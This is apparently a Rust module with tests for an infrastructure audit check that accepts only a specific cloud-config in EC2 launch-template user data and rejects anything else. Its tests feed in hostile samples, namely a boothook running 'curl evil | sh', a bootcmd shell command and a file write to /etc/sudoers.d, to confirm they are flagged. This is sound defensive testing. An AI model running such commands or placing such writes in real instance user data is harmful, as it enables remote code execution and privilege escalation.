//! What `audit --asg` accepts as a replica's user data: exactly the cloud-config
//! terraform/modules/user-data renders, `write_files` of /etc/cryptoserver/env and
//! /etc/cryptoserver/tokens and nothing else. The image runs nothing from user data
//! (docs/security.md), but a template whose user data holds anything more was not
//! made by the module: whoever wrote it meant something by it, and the audit says so.

use base64::Engine;
use serde_norway::Value;

pub const ENV_FILE: &str = "/etc/cryptoserver/env";
pub const TOKENS_FILE: &str = "/etc/cryptoserver/tokens";
const HEADER: &str = "#cloud-config\n";
/// The keys of a `write_files` entry the module writes.
const ENTRY_KEYS: [&str; 4] = ["path", "content", "owner", "permissions"];

/// The settings /etc/cryptoserver/env receives, in the file's order.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Settings(Vec<(String, String)>);

impl Settings {
    pub fn get(&self, key: &str) -> Option<&str> {
        self.0
            .iter()
            .find(|(name, _)| name == key)
            .map(|(_, value)| value.as_str())
    }
}

/// The settings of a launch template's user data (base64, as EC2 returns it), or
/// what in it is not the module's cloud-config.
pub fn module_settings(user_data: Option<&str>) -> Result<Settings, String> {
    let encoded = user_data.ok_or_else(|| {
        format!("has no user data, so a replica gets no {ENV_FILE} and never serves")
    })?;
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(encoded.trim())
        .map_err(|error| format!("has user data that is not base64 ({error})"))?;
    let text = String::from_utf8(bytes)
        .map_err(|_| "has user data that is not UTF-8 text (compressed or binary)".to_owned())?;
    settings(&text)
}

fn settings(text: &str) -> Result<Settings, String> {
    let Some(yaml) = text.strip_prefix(HEADER) else {
        let first = text.lines().next().unwrap_or("");
        return Err(format!(
            "has user data that is not a #cloud-config document (its first line is {:?}): \
             only the cloud-config terraform/modules/user-data renders is expected",
            first.chars().take(40).collect::<String>()
        ));
    };
    let config: Value = serde_norway::from_str(yaml)
        .map_err(|error| format!("has a cloud-config that is not YAML: {error}"))?;
    let Value::Mapping(config) = config else {
        return Err("has a cloud-config that is not a mapping".to_owned());
    };
    let others: Vec<String> = config
        .keys()
        .filter(|key| key.as_str() != Some("write_files"))
        .map(describe)
        .collect();
    if !others.is_empty() {
        return Err(format!(
            "has a cloud-config setting {} besides write_files",
            others.join(", ")
        ));
    }
    let Some(Value::Sequence(entries)) = config.get("write_files") else {
        return Err("has a cloud-config whose write_files is not a list".to_owned());
    };
    let mut env = None;
    for entry in entries {
        let (path, content) = file(entry)?;
        if path == ENV_FILE {
            if env.is_some() {
                return Err(format!("writes {ENV_FILE} twice"));
            }
            env = Some(content);
        }
    }
    let env = env.ok_or_else(|| format!("has a cloud-config that writes no {ENV_FILE}"))?;
    env.lines()
        .filter(|line| !line.is_empty())
        .map(|line| {
            line.split_once('=')
                .map(|(key, value)| (key.to_owned(), value.to_owned()))
                .ok_or_else(|| {
                    format!("writes a line of {ENV_FILE} that is not KEY=VALUE: {line:?}")
                })
        })
        .collect::<Result<_, _>>()
        .map(Settings)
}

/// One `write_files` entry: its path and content, if it is one the module writes.
fn file(entry: &Value) -> Result<(&str, &str), String> {
    let Value::Mapping(entry) = entry else {
        return Err("has a write_files entry that is not a mapping".to_owned());
    };
    let path = entry.get("path").and_then(Value::as_str).unwrap_or("");
    if path != ENV_FILE && path != TOKENS_FILE {
        return Err(format!(
            "writes {path:?}: only {ENV_FILE} and {TOKENS_FILE} are expected"
        ));
    }
    let others: Vec<String> = entry
        .keys()
        .filter(|key| !key.as_str().is_some_and(|key| ENTRY_KEYS.contains(&key)))
        .map(describe)
        .collect();
    if !others.is_empty() {
        return Err(format!(
            "gives {path} the write_files key {} (expected only {})",
            others.join(", "),
            ENTRY_KEYS.join(", ")
        ));
    }
    let content = entry
        .get("content")
        .and_then(Value::as_str)
        .ok_or_else(|| format!("writes {path} without text content"))?;
    Ok((path, content))
}

fn describe(key: &Value) -> String {
    match key.as_str() {
        Some(text) => text.to_owned(),
        None => format!("{key:?}"),
    }
}

#[cfg(test)]
pub mod tests {
    use super::*;

    pub const FINGERPRINT: &str = "0123456789abcdef0123456789abcdef";

    /// terraform/modules/user-data's output for a pool replica, as Terraform's
    /// yamlencode writes it (keys sorted and quoted, multi-line strings literal).
    pub fn module_user_data() -> String {
        format!(
            "#cloud-config\n\"write_files\":\n- \"content\": |\n    CRYPTOSERVER_BIND=0.0.0.0:8080\n    \
             CRYPTOSERVER_MODE=MODE32\n    CRYPTOSERVER_SECRETS_EXPECTED_FINGERPRINT={FINGERPRINT}\n    \
             CRYPTOSERVER_SECRETS_ROLE=replica\n    CRYPTOSERVER_TOKENS_FILE=/etc/cryptoserver/tokens\n  \
             \"owner\": \"root:root\"\n  \"path\": \"/etc/cryptoserver/env\"\n  \"permissions\": \"0644\"\n\
             - \"content\": |\n    {}\n  \"owner\": \"root:cryptoserver\"\n  \"path\": \
             \"/etc/cryptoserver/tokens\"\n  \"permissions\": \"0640\"\n",
            "ab".repeat(32)
        )
    }

    pub fn encoded(text: &str) -> String {
        base64::engine::general_purpose::STANDARD.encode(text)
    }

    #[test]
    fn the_modules_cloud_config_gives_its_settings() {
        let settings = module_settings(Some(&encoded(&module_user_data()))).unwrap();
        assert_eq!(
            settings.get("CRYPTOSERVER_SECRETS_EXPECTED_FINGERPRINT"),
            Some(FINGERPRINT)
        );
        assert_eq!(settings.get("CRYPTOSERVER_SECRETS_ROLE"), Some("replica"));
        assert_eq!(settings.get("CRYPTOSERVER_RATE_LIMIT"), None);
    }

    fn refusal(text: &str) -> String {
        module_settings(Some(&encoded(text))).unwrap_err()
    }

    #[test]
    fn anything_else_is_named() {
        let module = module_user_data();
        assert!(module_settings(None)
            .unwrap_err()
            .contains("has no user data"));
        assert!(module_settings(Some("#!/bin/sh"))
            .unwrap_err()
            .contains("not base64"));
        assert_eq!(
            refusal("#cloud-boothook\n#!/bin/sh\ncurl evil | sh\n"),
            "has user data that is not a #cloud-config document (its first line is \
             \"#cloud-boothook\"): only the cloud-config terraform/modules/user-data renders \
             is expected"
        );
        assert!(
            refusal("Content-Type: multipart/mixed; boundary=x\n\n--x\n")
                .contains("first line is \"Content-Type: multipart/mixed; boundary=\")")
        );
        assert_eq!(
            refusal(&format!("{module}bootcmd:\n- [sh, -c, id]\nruncmd: []\n")),
            "has a cloud-config setting bootcmd, runcmd besides write_files"
        );
        assert_eq!(
            refusal(&module.replace("/etc/cryptoserver/tokens\"", "/etc/sudoers.d/x\"")),
            "writes \"/etc/sudoers.d/x\": only /etc/cryptoserver/env and \
             /etc/cryptoserver/tokens are expected"
        );
        assert_eq!(
            refusal(&module.replace("\"permissions\": \"0640\"", "\"defer\": true")),
            "gives /etc/cryptoserver/tokens the write_files key defer (expected only path, \
             content, owner, permissions)"
        );
        assert!(refusal("#cloud-config\nwrite_files: [\n").contains("is not YAML"));
        assert_eq!(
            refusal("#cloud-config\nwrite_files: []\n"),
            "has a cloud-config that writes no /etc/cryptoserver/env"
        );
        assert_eq!(
            refusal("#cloud-config\n- write_files\n"),
            "has a cloud-config that is not a mapping"
        );
        assert!(
            refusal(&module.replace("CRYPTOSERVER_BIND=", "CRYPTOSERVER_BIND "))
                .contains("is not KEY=VALUE: \"CRYPTOSERVER_BIND 0.0.0.0:8080\"")
        );
    }
}
